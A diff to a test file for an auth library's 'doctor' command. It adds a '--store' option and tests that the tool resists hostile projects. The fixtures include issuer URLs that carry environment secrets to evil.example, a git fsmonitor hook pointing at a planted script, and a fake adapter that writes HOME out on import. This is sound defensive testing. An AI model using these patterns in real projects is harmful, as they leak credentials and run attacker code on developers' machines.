@@ -1,7 +1,8 @@
 import { execFileSync } from 'node:child_process'
+import { chmodSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
 import type { World } from '../src/lib/world.ts'
-import { createProject, type Files, NOW, SECRET } from './command-line.ts'
+import { contents, createProject, type Files, NOW, SECRET } from './command-line.ts'
 
 const ENV = {
   AUTH_SECRET: SECRET,
@@ -71,17 +72,24 @@ interface Plant {
   readonly fetch?: World['fetch']
   /** As on a developer's machine. */
   readonly inDevelopment?: true
+  /** Whether the database may be opened. */
+  readonly opensStore?: true
   readonly prepare?: (folder: string) => void
 }
 
-async function examine({ files = {}, env = {}, fetch, inDevelopment, prepare }: Plant) {
+async function examine({ files = {}, env = {}, fetch, inDevelopment, opensStore, prepare }: Plant) {
   const project = createProject({
     ...SOUND,
     '.env.local': envText({ ...ENV, ...env }),
     ...files,
   })
   prepare?.(project.folder)
-  const args = inDevelopment ? ['doctor', '--json'] : ['doctor', '--production', '--json']
+  const args = [
+    'doctor',
+    '--json',
+    ...(inDevelopment ? [] : ['--production']),
+    ...(opensStore ? ['--store'] : []),
+  ]
   const { code, output } = await project.runIn({ fetch: fetch ?? answering(GOOGLE) }, ...args)
   const { findings } = JSON.parse(output) as {
     findings: readonly { code: string; severity: string; what: string; cure: string }[]
@@ -326,6 +334,7 @@ ${AUTH.replace('[Google]', '[Google], adapter: PrismaAdapter(prisma)')}`,
       },
     },
     'store-unreachable': {
+      opensStore: true,
       files: {
         ...dependencies({ pg: '8' }),
         'auth.ts': `import { PostgresAdapter } from '@siteauth/adapters/postgres'
@@ -583,5 +592,156 @@ export default auth`,
       files: { 'auth.ts': `${AUTH}\nthrow new Error('this must not run')` },
     })
     expect(findings).toEqual([])
+  })
+
+  describe('in a project that may be hostile', () => {
+    /** Where requests go to if a project has these files, on a machine with these variables. */
+    async function requested(files: Files, env: World['env'], ...args: readonly string[]) {
+      const project = createProject({ ...SOUND, ...files })
+      const urls: string[] = []
+      const fetch: World['fetch'] = async input => {
+        urls.push(String(input))
+        return Response.json(GOOGLE)
+      }
+      const { code, output } = await project.runIn({ fetch, env }, 'doctor', '--json', ...args)
+      return { urls, code, output }
+    }
+
+    const ELSEWHERE = 'https://evil.example'
+    const discovery = (origin: string) => `${origin}/.well-known/openid-configuration`
+
+    it.each([
+      ['a template', `\`https://evil.example/\${process.env.CLOUD}\``],
+      ['a sum', `'https://evil.example/' + process.env.CLOUD`],
+      ['a name that is computed', `'https://evil.example/' + process.env['CL' + 'OUD']`],
+      ['another module', `'https://evil.example/' + cloud`],
+      ['a choice', `process.env.CLOUD ? 'https://evil.example/1' : 'https://evil.example/0'`],
+      ['a default', `process.env.CLOUD ?? 'https://evil.example/0'`],
+    ])('sends no variable of the machine in a URL made with %s', async (_, issuer) => {
+      const files = {
+        'cloud.ts': 'export const cloud = process.env.CLOUD\n',
+        'auth.ts': `import { cloud } from './cloud'\n${AUTH.replace('[Google]', `[Google({ issuer: ${issuer} })]`)}`,
+      }
+      const known = await requested(files, { CLOUD: 'cloud-key' })
+      const unknown = await requested(files, {})
+      expect(known.urls).toEqual([])
+      // Nor can a server tell whether it is set.
+      expect(unknown.urls).toEqual([])
+    })
+
+    it('sends none that a file of the project names without a value', async () => {
+      const { urls } = await requested(
+        {
+          ...provider(`{ issuer: 'https://evil.example/' + process.env.CLOUD }`),
+          '.env': 'CLOUD=\n',
+        },
+        { CLOUD: 'cloud-key' },
+      )
+      expect(urls.join()).not.toContain('cloud-key')
+    })
+
+    it('sends none that a file of the project has another value for', async () => {
+      const { urls } = await requested(
+        {
+          ...provider(`{ issuer: 'https://evil.example/' + process.env.CLOUD }`),
+          '.env': 'CLOUD=a\n',
+        },
+        { CLOUD: 'cloud-key' },
+      )
+      expect(urls).toEqual([discovery(`${ELSEWHERE}/a`)])
+    })
+
+    it('sends none in the URL of a provider without discovery', async () => {
+      const described = `{ id: 'x', type: 'oauth', clientId: 'a', clientSecret: 'b', authorization: 'https://evil.example/a',
+  token: \`https://\${process.env.CLOUD}.evil.example/token\`, userinfo: 'https://evil.example/u' }`
+      const { urls } = await requested(
+        { 'auth.ts': AUTH.replace('[Google]', `[${described}]`) },
+        { CLOUD: 'cloud-key' },
+      )
+      expect(urls).toEqual([])
+    })
+
+    it.each([
+      ['AUTH_SECRET', SECRET],
+      ['AUTH_GOOGLE_SECRET', 'GOCSPX-0aB1cD2eF3'],
+      ['AUTH_EMAIL_SERVER', 'smtp://me:hunter2@mail.example.com'],
+      ['STRIPE_API_KEY', 'rk_live_1'],
+      ['DATABASE_URL', 'mysql://localhost/app'],
+    ])('sends no secret of the project itself: %s', async (name, value) => {
+      const { urls } = await requested(
+        {
+          ...provider(`{ issuer: 'https://evil.example/' + process.env.${name} }`),
+          '.env.local': envText({ ...ENV, [name]: value }),
+        },
+        { [name]: value },
+      )
+      expect(urls).toEqual([])
+    })
+
+    it('asks a provider whose address is in a file of the project, or in a variable of SiteAuth', async () => {
+      const issuer = `'https://' + process.env.REALM + '.example/' + process.env.AUTH_TENANT`
+      const { urls } = await requested(
+        { ...provider(`{ issuer: ${issuer} }`), '.env': 'REALM=id\n' },
+        { AUTH_TENANT: 't1' },
+      )
+      expect(urls).toEqual([discovery('https://id.example/t1')])
+    })
+
+    it('takes a variable of the machine to be right, without looking at it', async () => {
+      const { output } = await requested(options('secret: process.env.VAULT_SECRET'), {
+        VAULT_SECRET: 'short',
+      })
+      expect(JSON.parse(output)).toMatchObject({ findings: [] })
+    })
+
+    it('starts no program that the settings of its Git repository name', async () => {
+      const project = createProject({ ...SOUND, 'spy.sh': '#!/bin/sh\ntouch ran\n' })
+      chmodSync(`${project.folder}/spy.sh`, 0o755)
+      const inProject = { cwd: project.folder }
+      execFileSync('git', ['init', '--quiet'], inProject)
+      execFileSync('git', ['config', 'core.fsmonitor', './spy.sh'], inProject)
+      await project.runIn({ fetch: answering(GOOGLE) }, 'doctor')
+      expect(contents(project)).not.toHaveProperty('ran')
+    })
+
+    const STORE: Files = {
+      'auth.ts': `import { PostgresAdapter } from '@siteauth/adapters/postgres'
+${AUTH.replace('[Google]', `[Google], adapter: PostgresAdapter({ url: process.env.DATABASE_URL })`)}`,
+      'node_modules/@siteauth/adapters/package.json': JSON.stringify({
+        name: '@siteauth/adapters',
+        type: 'module',
+        exports: { './postgres': './postgres.js' },
+      }),
+      'node_modules/@siteauth/adapters/postgres.js': `import { writeFileSync } from 'node:fs'
+writeFileSync(new URL('../../../ran', import.meta.url), process.env.HOME ?? '')
+export const PostgresAdapter = ({ url }) => ({
+  migrations: { plan: async () => [{ description: \`create table at \${url}\`, sql: '' }] },
+  close: async () => {},
+})`,
+    }
+    const DATABASE = { DATABASE_URL: 'postgres://db.example/app' }
+
+    it('opens no store, because that runs code of the project', async () => {
+      const project = createProject({ ...SOUND, ...STORE, '.env': envText(DATABASE) })
+      await project.runIn({ fetch: answering(GOOGLE), env: DATABASE }, 'doctor')
+      expect(contents(project)).not.toHaveProperty('ran')
+    })
+
+    it('opens the store that a variable of the machine names, if it is told to', async () => {
+      const project = createProject({ ...SOUND, ...STORE })
+      const { output } = await project.runIn(
+        { fetch: answering(GOOGLE), env: DATABASE },
+        'doctor',
+        '--store',
+      )
+      expect(contents(project)).toHaveProperty('ran')
+      expect(output).toContain('create table at postgres://db.example/app')
+    })
+
+    it('opens no store if it is to send nothing', async () => {
+      const project = createProject({ ...SOUND, ...STORE, '.env': envText(DATABASE) })
+      await project.run('doctor', '--store', '--offline')
+      expect(contents(project)).not.toHaveProperty('ran')
+    })
   })
 })
